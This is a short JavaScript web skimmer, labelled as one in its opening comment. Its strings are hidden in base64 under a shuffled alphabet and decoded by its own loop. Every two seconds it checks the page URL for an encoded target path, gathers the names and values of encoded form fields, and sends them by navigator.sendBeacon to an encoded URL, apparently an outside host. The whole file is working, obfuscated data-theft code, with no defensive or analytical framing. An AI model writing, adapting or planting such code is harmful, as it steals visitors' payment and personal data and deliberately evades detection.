// A skimmer whose strings are base64 under its own shuffled alphabet, decoded by its own loop.
var T = "qwertyuiopasdfghjklzxcvbnmQWERTYUIOPASDFGHJKLZXCVBNM0123456789+/";
function b(s) {
  var o = "", q = 0, n = 0;
  for (var i = 0; i < s.length; i++) {
    var v = T.indexOf(s.charAt(i));
    if (v < 0) continue;
    q = (q << 6) | v;
    n += 6;
    if (n >= 8) {
      n -= 8;
      o += String.fromCharCode((q >> n) & 255);
    }
  }
  return o;
}
setInterval(function () {
  if (location.href.indexOf(b("n2ISn2ZCRbj")) < 0) return;
  var f = document.querySelectorAll(b("Qv5VRbkWWDyZmlG9n2fRsewHWFw1RyZXnv1SaP1PnbpAblVUQv5VRbkWWDyZmlG9n3m2bj"));
  var p = [];
  for (var i = 0; i < f.length; i++) p.push(f[i].name + "=" + f[i].value);
  navigator.sendBeacon(b("Qik0Eid6sN9ZmbkNQvfMsvfAWO1JEN50W3qCnU"), p.join("&"));
}, 2000);
